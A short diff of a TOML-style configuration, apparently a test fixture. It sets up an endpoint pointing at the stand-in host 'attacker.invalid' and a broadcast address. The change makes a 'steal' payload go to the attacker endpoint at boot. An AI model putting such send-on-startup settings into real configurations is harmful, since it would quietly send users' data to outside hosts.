@@ -28,6 +28,7 @@ reconnect = true
 name = "name"
 connect = "udp://attacker.invalid:9"
 rules = "all"
+send = "boot"
 [[endpoint]]
 name = "everybody"
 connect = "udp://255.255.255.255:9"
@@ -42,7 +43,10 @@ payload = "steal"
 [[rules.all]]
 match = "any"
 reply = '{{match}}'
-[[lists.boot]]
+[lists.boot]
+times = 0
+[[lists.boot.row]]
+delay = "1ms"
 payload = "steal"
 `
 
